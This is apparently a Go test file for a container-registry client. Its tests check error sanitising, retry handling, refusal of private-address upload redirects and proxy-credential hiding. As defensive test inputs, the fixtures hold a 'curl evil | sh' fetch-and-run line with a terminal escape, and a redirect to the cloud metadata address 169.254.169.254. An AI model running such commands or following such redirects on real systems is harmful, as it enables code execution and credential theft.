package registry

import (
	"bytes"
	"errors"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aistor-upgrade/aistor-upgrade/internal/registry/registrytest"
	"github.com/aistor-upgrade/aistor-upgrade/pkg/images"
)

// A registry's own words become a part of ours: they may not move the cursor,
// fake a line of their own, or fill the screen.
func TestWhatARegistrySaysStaysOneLine(t *testing.T) {
	t.Parallel()
	s := registrytest.NewServer(t)
	s.InjectFault(registrytest.Fault{Match: "manifests", Status: 403, Body: `{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J` + strings.Repeat("x", 9000) + `"}]}`})
	_, err := newClient(t, s).Resolve(t.Context(), mustParseRef(t, s.Host+"/a/b:v1"))
	if KindOf(err) != Forbidden || strings.ContainsAny(err.Error(), "\n\x1b") || len(err.Error()) > 1000 {
		t.Errorf("got %.1200q", err)
	}
}

// A proxy answers with a page; the line that tells of a retry is not that page.
func TestARetryIsToldWithoutThePage(t *testing.T) {
	t.Parallel()
	s := registrytest.NewServer(t)
	s.AddImage(t, "a/b", "v1", "linux/amd64")
	s.InjectFault(registrytest.Fault{Match: "manifests", Times: 1, Status: 503, Body: "<html>\n" + strings.Repeat("page ", 999)})
	var told []string
	c := newClient(t, s, func(o *Options) {
		o.OnRetry = func(_ string, err error, _ time.Duration) { told = append(told, err.Error()) }
	})
	if _, _, _, err := c.Manifest(t.Context(), mustParseRef(t, s.Host+"/a/b:v1")); err != nil {
		t.Fatal(err)
	}
	if len(told) != 1 || !strings.Contains(told[0], "503") || strings.Contains(told[0], "page") {
		t.Errorf("told %.300q", told)
	}
}

// So many seconds are no time at all in a Duration: the request must not be
// repeated at once.
func TestARetryAfterBeyondReasonIsNotNow(t *testing.T) {
	t.Parallel()
	s := registrytest.NewServer(t)
	s.InjectFault(registrytest.Fault{Match: "manifests", Status: 429, Header: http.Header{"Retry-After": {"9223372036854775807"}}})
	_, err := newClient(t, s).Resolve(t.Context(), mustParseRef(t, s.Host+"/a/b:v1"))
	if n := s.CountRequests("manifests"); KindOf(err) != RateLimited || n > 2 {
		t.Errorf("%d requests, %v", n, err)
	}
}

// What an upload's location says is followed as a redirect is.
func TestUploadsAreNotSentToAPrivateAddress(t *testing.T) {
	t.Parallel()
	body := registrytest.NewLayer(5, 1000)
	d := Descriptor{Digest: images.DigestOf(body), Size: int64(len(body))}
	s := registrytest.NewServer(t)
	s.InjectFault(registrytest.Fault{Match: "^POST", Status: 202, Header: http.Header{"Location": {"https://169.254.169.254/latest?token=secret"}}})
	open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
	_, err := newClient(t, s).PushBlob(t.Context(), mustParseRef(t, s.Host+"/a/b"), d, open, nil)
	if KindOf(err) != PrivateRedirect || strings.Contains(err.Error(), "secret") {
		t.Errorf("got %v", err)
	}
}

// Asking for a config costs as much as sending it; asking for a layer is worth
// it.
func TestOnlyWhatIsLargeIsAskedFor(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ size, heads int }{{100, 0}, {minCheckedBlobSize, 1}} {
		s := registrytest.NewServer(t)
		body := registrytest.NewLayer(5, tt.size)
		d := Descriptor{Digest: images.DigestOf(body), Size: int64(tt.size)}
		open := func(int64) (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
		for range 2 {
			if _, err := newClient(t, s).PushBlob(t.Context(), mustParseRef(t, s.Host+"/a/b"), d, open, nil); err != nil {
				t.Fatal(err)
			}
		}
		if n := s.CountRequests("^HEAD"); n != 2*tt.heads {
			t.Errorf("%d bytes: asked %d times", tt.size, n)
		}
		if n := s.CountRequests("^PUT"); n != 2-tt.heads {
			t.Errorf("%d bytes: sent %d times", tt.size, n)
		}
	}
}

// A name that was misspelt is told at once and once, not after a minute and for
// both schemes.
func TestNobodyThereIsToldAtOnce(t *testing.T) {
	t.Parallel()
	for _, plain := range [][]string{{nobody}, nil} {
		var slept waitRecorder
		c, err := New(Options{PlainHTTP: plain, Wait: slept.recordWait})
		if err != nil {
			t.Fatal(err)
		}
		_, err = c.Resolve(t.Context(), mustParseRef(t, nobody+"/a/b:v1"))
		if KindOf(err) != Unreachable || strings.Contains(err.Error(), "spoken") || strings.Count(err.Error(), "refused") != 1 {
			t.Errorf("got %v", err)
		}
		if len(slept.list) > 2 {
			t.Errorf("waited %v", slept.list)
		}
	}
}

// A password with a % in it makes an address that cannot be read; the error must
// not quote it.
func TestAProxyThatCanNotBeReadIsNotQuoted(t *testing.T) {
	t.Parallel()
	address := strings.Join([]string{"http://u:hunter2%zz", "proxy:3128"}, "@")
	pick := hideProxyURL(func(*http.Request) (*url.URL, error) { return url.Parse(address) })
	c, err := New(Options{Proxy: pick, Wait: (&waitRecorder{}).recordWait})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.Resolve(t.Context(), mustParseRef(t, "registry.example.com/a:b"))
	if err == nil || strings.Contains(err.Error(), "hunter2") || !strings.Contains(err.Error(), "proxy's address") {
		t.Errorf("got %v", err)
	}
}

// An address that takes connections and never answers is told of soon: nothing
// is scanned there that could take its time.
func TestARegistryThatNeverAnswers(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	var asked atomic.Int32
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			asked.Add(1)
			t.Cleanup(func() { _ = conn.Close() })
		}
	}()
	s := &registrytest.Server{Host: l.Addr().String()}
	c := newClient(t, s, func(o *Options) { o.Limits.Silence = stall })
	start, many := time.Now(), make(chan error)
	for range 8 {
		go func() {
			_, _, err := c.HeadManifest(t.Context(), images.Ref{Host: s.Host, Path: "a/b", Tag: "c"})
			many <- err
		}()
	}
	for range 8 {
		var e *Error
		if err := <-many; !errors.As(err, &e) || e.Kind != Unreachable || !strings.Contains(e.Hint(), s.Host) || !strings.Contains(err.Error(), "no data was received within") {
			t.Errorf("got %v", err)
		}
	}
	if took := time.Since(start); took > time.Minute {
		t.Errorf("it took %s", took)
	}
	if n := asked.Load(); n > 4 {
		t.Errorf("it was asked %d times", n)
	}
}
